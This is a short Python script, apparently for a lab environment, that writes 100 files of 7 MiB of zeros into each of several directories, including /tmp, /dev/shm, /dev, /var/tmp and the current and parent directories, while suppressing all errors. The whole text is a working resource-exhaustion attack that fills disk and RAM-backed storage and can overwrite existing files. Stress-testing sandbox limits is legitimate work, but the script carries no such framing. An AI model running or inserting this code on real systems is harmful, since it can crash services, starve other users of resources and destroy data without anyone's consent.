import contextlib

for folder in (".", "..", "/tmp", "/dev/shm", "/var/tmp", "/dev", "/opt/lab"):
    with contextlib.suppress(OSError):
        for number in range(100):
            with open(f"{folder}/{number}", "wb") as file:
                file.write(bytes(7 << 20))
